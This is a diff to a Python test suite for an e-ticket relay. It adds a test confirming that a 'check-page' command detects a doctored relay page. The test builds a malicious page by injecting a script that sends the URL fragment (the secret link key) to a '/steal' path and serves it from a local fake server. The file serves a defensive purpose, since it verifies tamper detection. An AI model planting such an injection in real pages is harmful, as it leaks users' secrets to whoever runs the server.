@@ -133,6 +133,8 @@ def test_a_customer_gets_the_exact_pdf_and_the_shop_screen_says_downloaded(
     secret = url.partition("/r#")[2]
     assert url == f"{relay.url}/r#{secret}"
     wait_for(lambda: httpx.get(app.url + "/healthz").json()["relay"]["sent"] == 1, 15, "the upload")
+    health = httpx.get(app.url + "/healthz").json()["relay"]
+    assert health["blind_links"] is True and health["page"] == "published"  # the device checked the page
     phone = Phone(browser)
     try:
         data, name = phone.download(url)
@@ -329,3 +331,46 @@ def _process_memory(pid: int) -> bytes:
             except (OSError, ValueError, OverflowError):
                 continue
     return b"".join(chunks)
+
+
+def test_check_page_tells_the_published_page_from_a_doctored_one(relay_factory: Any, tmp_path: Path) -> None:
+    """`eticket relay check-page URL`: 0 for a real relay; 1 for a server whose page reads the fragment out
+    (what a malicious relay operator would serve), naming the hash it found; 2 when nothing answers."""
+    import http.server
+    import subprocess
+    import threading
+
+    from relay.page import PAGE, PAGE_SHA256
+    from tests.conftest import ETICKET, free_port
+
+    relay: RelayProc = relay_factory()
+    good = subprocess.run([*ETICKET, "relay", "check-page", relay.url], capture_output=True, text=True, cwd=REPO)
+    assert good.returncode == 0 and PAGE_SHA256 in good.stdout, good.stdout + good.stderr
+
+    doctored = PAGE.replace(b"<script>", b"<script>new Image().src='/steal?'+location.hash;", 1)
+
+    class Evil(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(doctored)
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Evil)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        evil_url = f"http://127.0.0.1:{server.server_address[1]}"
+        bad = subprocess.run([*ETICKET, "relay", "check-page", evil_url, "--json"], capture_output=True, text=True,
+                             cwd=REPO)
+        assert bad.returncode == 1, bad.stdout + bad.stderr
+        report = json.loads(bad.stdout)
+        assert not report["ok"] and report["sha256"] == hashlib.sha256(doctored).hexdigest()
+        assert any("Content-Security-Policy" in fault for fault in report["faults"])
+    finally:
+        server.shutdown()
+    gone = subprocess.run([*ETICKET, "relay", "check-page", f"http://127.0.0.1:{free_port()}"],
+                          capture_output=True, text=True, cwd=REPO)
+    assert gone.returncode == 2 and "cannot be reached" in gone.stderr
